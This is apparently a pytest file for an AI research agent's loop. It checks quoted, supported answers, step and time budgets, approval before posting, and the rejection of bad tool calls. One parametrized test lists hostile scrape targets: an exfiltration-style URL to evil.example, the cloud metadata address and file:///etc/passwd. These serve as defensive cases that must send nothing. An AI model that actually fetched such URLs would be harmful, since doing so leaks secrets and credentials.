"""The loop: what a model can and cannot bring about."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, field

import pytest

from agent.budget import Budget, Meter
from agent.errors import FetchFailed, ModelUnavailable, SearchFailed
from agent.guide import FREE, LISTS, STEPS, Guide
from agent.ports import ToolContext
from agent.record import Record
from agent.scheduler import Scheduler
from agent.spec import Effect, Kind, Param, Tool
from agent.trace import Trace
from agent.types import Action, Answer, Hit, Link, Observation, Outcome, Purpose, Reply, Source, Status, Step
from tests.scripted import ListJournal, Says, Script, ScriptedModel, SetClock, WordRanker, act

QUESTION = "How many moons has Mars?"
MARS, PHOBOS = "https://en.wikipedia.org/wiki/Mars", "https://en.wikipedia.org/wiki/Phobos"
TEXT = "Mars is the fourth planet. Mars has two moons, Phobos and Deimos. They were found in 1877 by Asaph Hall."
SEARCH, READ = act("search", query="moons Mars"), act("scrape", url=MARS)
RIGHT, WRONG = (
    act("answer", content="Mars has two moons."),
    act("answer", content="Mars has seven moons, found in 1999."),
)


@dataclass
class World:
    """Two tools without a network behind them, which charge the meter as the gate does."""

    meter: Meter
    pages: dict[str, str] = field(default_factory=lambda: {MARS: TEXT, PHOBOS: "Phobos is a moon of Mars."})
    fail: Exception | None = None
    sent: list[str] = field(default_factory=list)

    def search(self, ctx: ToolContext, query: str, site: str = "any") -> Observation:
        self.meter.charge_request(Purpose.SEARCH, "search")
        self.sent.append(query)
        if self.fail:
            raise self.fail
        return Observation("1. Mars\n2. Phobos", hits=(Hit("Mars", MARS), Hit("Phobos", PHOBOS)))

    def scrape(self, ctx: ToolContext, url: str) -> Observation:
        self.meter.charge_request(Purpose.PAGE, "page")
        self.sent.append(url)
        if url not in self.pages:
            raise FetchFailed(url, "HTTP 404", "status", 404)
        text = self.pages[url]
        return Observation(
            text, sources=(Source(url, "A page", text),), links=(Link("https://en.wikipedia.org/wiki/X", "X"),)
        )

    def post(self, ctx: ToolContext, content: str) -> Observation:
        self.sent.append(content)
        return Observation("posted")

    def tools(self) -> dict[str, Tool]:
        query = (Param("query", Kind.QUERY, "words", 120), Param("site", Kind.SITE, "domain", required=False))
        text = (Param("content", Kind.TEXT, "text", 1200),)
        cards = (
            Tool("search", "Find.", query, self.search, spends=Purpose.SEARCH),
            Tool("scrape", "Read.", (Param("url", Kind.URL, "URL"),), self.scrape, spends=Purpose.PAGE),
            Tool("post", "Post.", text, self.post, effect=Effect.ACT),
            Tool("answer", "Say.", text, lambda ctx, content: Answer(content), ends=True),
        )
        return {card.name: card for card in cards}


@dataclass
class Bench:
    """One run of a scripted model."""

    lines: Sequence[Script]
    guide: Guide = FREE
    budget: Budget = field(default_factory=Budget)
    yes: bool = False
    fail: Exception | None = None
    trace: Trace = field(default_factory=lambda: Trace(QUESTION))

    def __post_init__(self) -> None:
        self.clock, self.events = SetClock(), ListJournal()
        self.meter = Meter(self.budget)
        self.world = World(self.meter, fail=self.fail)
        self.model = ScriptedModel(list(self.lines))

    def run(self) -> Outcome:
        return self.scheduler().run(self.trace)

    def scheduler(self) -> Scheduler:
        return Scheduler(
            model=self.model,
            tools=self.world.tools(),
            guide=self.guide,
            meter=self.meter,
            ranker=WordRanker(),
            record=Record("R1", self.clock, (self.events,)),
            clock=self.clock,
            approver=Says(self.yes),
            context=lambda trace: None,  # type: ignore[arg-type, return-value]
            sites=("wikipedia.org",),
        )


def test_search_read_answer_ends_supported_with_a_verbatim_quote() -> None:
    bench = Bench([SEARCH, READ, RIGHT])
    outcome = bench.run()
    assert (outcome.status, outcome.usage.steps, outcome.usage.requests) == (Status.SUPPORTED, 3, 2)
    assert all(quote.text in TEXT for claim in outcome.answer.claims for quote in claim.quotes)
    assert [source.url for source in outcome.sources] == [MARS]


def test_a_turn_is_recorded_as_plan_execute_observe_and_an_answer_as_reflect() -> None:
    bench = Bench([SEARCH, READ, RIGHT])
    bench.run()
    turn = ["plan", "execute", "observe"]
    assert bench.events.kinds() == ["run", *turn, *turn, "plan", "execute", "reflect", "outcome"]


def test_an_unsupported_answer_goes_back_once_with_the_reason() -> None:
    bench = Bench([SEARCH, READ, WRONG, RIGHT])
    outcome = bench.run()
    assert outcome.status is Status.SUPPORTED
    assert "seven" in bench.model.asked[-1][-1].content or "1999" in bench.model.asked[-1][-1].content


def test_an_answer_that_stays_unsupported_is_given_as_such_and_goes_back_no_more() -> None:
    bench = Bench([SEARCH, READ, WRONG])
    outcome = bench.run()
    assert (outcome.status, len(bench.model.asked)) == (Status.UNSUPPORTED, 4)
    assert "1999" in outcome.answer.text
    assert outcome.note


def test_an_answer_at_the_last_step_can_still_be_mended() -> None:
    bench = Bench([SEARCH, READ, WRONG, RIGHT], budget=Budget(steps=3))
    assert bench.run().status is Status.SUPPORTED


def test_not_found_is_a_result() -> None:
    assert Bench([SEARCH, READ, act("answer", content="not found")]).run().status is Status.ABSTAINED


def test_a_bad_reply_is_tried_again_without_costing_a_step() -> None:
    bench = Bench([SEARCH, "I think I should read Mars now.", READ, RIGHT])
    outcome = bench.run()
    assert (outcome.status, outcome.usage.steps) == (Status.SUPPORTED, 3)
    assert "[Error]" in bench.model.asked[2][-1].content


@pytest.mark.parametrize(
    "reply",
    [
        act("scrape", url="https://evil.example/?q=secret"),
        act("scrape", url="http://169.254.169.254/latest/meta-data"),
        act("scrape", url="file:///etc/passwd"),
        act("scrape", url="https://en.wikipedia.org/wiki/Not_seen"),
        act("fly", to="Mars"),
        '{"action": "search"',
        "",
    ],
)
def test_what_is_off_the_menu_sends_nothing_and_ends_the_run_after_three(reply: str) -> None:
    bench = Bench([reply])
    outcome = bench.run()
    assert (outcome.status, bench.world.sent, len(bench.model.asked)) == (Status.LIMIT, [], 3)
    assert "3 bad actions in a row" in outcome.note


def test_the_same_search_again_and_again_is_sent_once() -> None:
    bench = Bench([SEARCH])
    assert bench.run().status is Status.LIMIT
    assert bench.world.sent == ["moons Mars"]


def test_a_model_that_searches_for_ever_is_stopped_after_two_in_a_row() -> None:
    bench = Bench([act("search", query=f"moons {n}") for n in range(20)])
    assert bench.run().status is Status.LIMIT
    assert len(bench.world.sent) == 2


def test_the_last_step_offers_the_answer_alone() -> None:
    bench = Bench([SEARCH, READ, act("answer", content="not found")], budget=Budget(steps=3))
    bench.run()
    last = bench.model.schemas[-1]
    assert last is not None
    assert last["properties"]["action"] == {"const": "answer"}


def test_a_scrape_url_in_a_schema_was_always_seen_before() -> None:
    bench = Bench([SEARCH, READ, RIGHT])
    bench.run()
    enums = [
        b["properties"]["url"]["enum"] for s in bench.model.schemas if s for b in s["anyOf"] if "url" in b["properties"]
    ]
    assert enums == [[MARS, PHOBOS], [PHOBOS, "https://en.wikipedia.org/wiki/X"]]


def test_a_tool_that_fails_is_an_observation_and_the_run_goes_on() -> None:
    bench = Bench([SEARCH, act("scrape", url=PHOBOS), READ, RIGHT])
    bench.world.pages = {MARS: TEXT}
    assert bench.run().status is Status.SUPPORTED
    assert "HTTP 404" in bench.model.asked[2][-1].content


def test_no_provider_is_no_web_and_the_model_is_asked_no_more() -> None:
    bench = Bench([SEARCH], fail=SearchFailed("search", "wikipedia: no network"))
    outcome = bench.run()
    assert (outcome.status, len(bench.model.asked)) == (Status.NO_WEB, 1)
    assert "wikipedia: no network" in outcome.note


def test_with_no_request_allowed_and_nothing_piped_in_the_model_is_not_asked() -> None:
    bench = Bench([SEARCH], budget=Budget(requests=0))
    assert (bench.run().status, bench.model.asked) == (Status.NO_WEB, [])


@pytest.mark.parametrize(
    ("end", "status"),
    [(KeyboardInterrupt(), Status.INTERRUPTED), (ModelUnavailable("m", "went away"), Status.NO_MODEL)],
)
def test_what_was_found_before_the_end_is_kept(end: BaseException, status: Status) -> None:
    bench = Bench([SEARCH, READ, end], guide=FREE)
    outcome = bench.run()
    assert (outcome.status, [source.url for source in outcome.sources]) == (status, [MARS])
    assert bench.events.kinds()[-1] == "outcome"


def test_an_interrupt_after_a_finding_gives_the_finding() -> None:
    bench = Bench([SEARCH, READ, "Mars has two moons, Phobos and Deimos.", KeyboardInterrupt()], guide=STEPS)
    assert [quote.text for quote in bench.run().found] == ["Mars has two moons, Phobos and Deimos."]


def test_time_that_is_up_ends_the_run_with_what_was_found() -> None:
    bench = Bench([SEARCH, READ, RIGHT], budget=Budget(seconds=30))
    scrape = bench.world.scrape

    def slow(ctx: ToolContext, url: str) -> Observation:
        bench.clock.sleep(31)
        return scrape(ctx, url)

    bench.world.scrape = slow  # type: ignore[method-assign]
    outcome = bench.run()
    assert (outcome.status, len(outcome.sources)) == (Status.LIMIT, 1)
    assert "--timeout" in outcome.note


def test_an_act_is_carried_out_only_with_a_yes() -> None:
    refused = Bench([act("post", content="hello"), act("answer", content="not found")])
    refused.run()
    agreed = Bench([act("post", content="hello"), act("answer", content="not found")], yes=True)
    agreed.run()
    assert (refused.world.sent, agreed.world.sent) == ([], ["hello"])


def test_in_steps_a_page_is_read_alone_and_its_words_go_into_the_dialogue() -> None:
    bench = Bench([SEARCH, READ, "Mars has two moons, Phobos and Deimos.", RIGHT], guide=STEPS)
    assert bench.run().status is Status.SUPPORTED
    assert [message.role for message in bench.model.asked[2]] == ["user"]
    assert "The page says:" in bench.model.asked[3][-1].content
    assert "fourth planet" not in bench.model.asked[3][-1].content


def test_in_steps_a_page_that_does_not_answer_leads_on_to_the_next() -> None:
    bench = Bench(
        [SEARCH, READ, "NOT FOUND", act("scrape", url=PHOBOS), "NOT FOUND", act("answer", content="not found")],
        guide=STEPS,
    )
    bench.world.pages = {MARS: "Mars is red and cold.", PHOBOS: "Phobos is dark."}
    bench.run()
    assert bench.world.sent[1:3] == [MARS, PHOBOS]


def test_without_writing_the_first_of_each_list_gives_a_quoted_answer() -> None:
    def first(messages: object, schema: object) -> str:
        assert isinstance(schema, dict)
        branch = schema.get("anyOf", [schema])[0]
        return json.dumps({n: p.get("const") or p["enum"][0] for n, p in branch["properties"].items()})

    outcome = Bench([first], guide=LISTS).run()
    assert (outcome.status, outcome.answer.content) == (Status.SUPPORTED, "Mars has two moons, Phobos and Deimos.")


def test_a_sentence_that_was_sent_back_is_not_offered_again() -> None:
    read = Step("", Reply(""), None, Observation(TEXT, sources=(Source(MARS, "Mars", TEXT),)))
    trace = Trace(QUESTION).add(read)
    scheduler = Bench([READ], guide=LISTS).scheduler()
    first, *others = scheduler.sentences(trace)
    back = Step("", Reply(""), Action("answer", {"content": first}), Observation("no", error="Unsupported"))
    assert scheduler.sentences(trace.add(back)) == tuple(others)
    assert others


def test_piped_text_counts_as_a_page() -> None:
    given = Observation(TEXT, sources=(Source("stdin:", "piped text", TEXT),))
    bench = Bench([RIGHT], trace=Trace(QUESTION).add(Step("", Reply(""), None, given)), budget=Budget(requests=0))
    assert bench.run().status is Status.SUPPORTED
    assert TEXT in bench.model.asked[0][-1].content


def test_a_reply_that_was_cut_is_no_action_even_when_it_parses() -> None:
    bench = Bench([SEARCH])
    bench.model.finish = "length"
    assert bench.run().status is Status.LIMIT
    assert bench.world.sent == []
